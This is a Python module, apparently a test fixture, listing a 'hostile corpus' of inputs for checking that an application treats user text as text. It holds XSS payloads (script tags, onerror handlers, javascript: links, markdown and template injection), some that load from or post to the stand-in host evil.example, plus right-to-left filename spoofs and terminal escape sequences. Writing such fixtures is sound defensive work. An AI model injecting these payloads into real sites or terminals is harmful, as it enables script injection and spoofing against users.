"""The hostile corpus of texts: what a stranger writes where a name, an answer or a sentence is expected."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

SCRIPTS: Mapping[str, str] = MappingProxyType({
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "textarea": "</textarea></pre></code></title><svg onload=alert(1)>",
    "frame": '"><iframe src=javascript:alert(1)>',
    "address": "javascript:alert(1)",
    "link": "<a href=javascript:alert(1)>x</a>",
    "attribute": '" onmouseover="alert(1)',
    "quote": "' autofocus onfocus=alert(1) x='",
    "mutation": "<math><mi//xlink:href='data:x,<script>'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "number": "&#60;img src=x onerror=alert(1)&#62;",
    "import": "</style><style>@import'//evil.example/x'</style>",
    "style": "<b style=background:url(//evil.example)>b</b>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content=0;url=//evil.example>",
    "form": "<form action=//evil.example><button>x</button>",
    "comment": "--><script>alert(1)</script><!-- ]]>",
    "json": "</script><script>alert(1)</script>\u2028",
    "markdown link": "[x](javascript:alert(1))",
    "markdown data": "[x](data:text/html,<script>alert(1)</script>)",
    "markdown image": "![x](//evil.example/x.png)",
    "markdown auto": "<javascript:alert(1)>",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
})  # fmt: skip
"""Texts that would run, load or send something if they were taken for anything but text; each at most 60 characters."""

ODD: Mapping[str, str] = MappingProxyType({
    "half a character": "half \ud800 and \udfff",
    "nothing": "a\x00b",
    "byte-order mark": "\ufeffa",
    "two forms": "\u00e9 e\u0301",
    "turned around": "abc\u202egnp.exe\u2066x\u2069",
    "marks": "e" + "\u0301" * 100_000,
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "lines": "a\u2028b\u2029c\x85d\re",
    "no characters": "\ufffe\uffff\U000e0041\u00ad",
    "blank": " \u200b ",
})  # fmt: skip
"""Texts that damage what they pass through, if it is careless."""
ACTING = ("\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066")
"""Characters that act on a terminal or turn a line around; none may come out of a page or a command as it went in."""
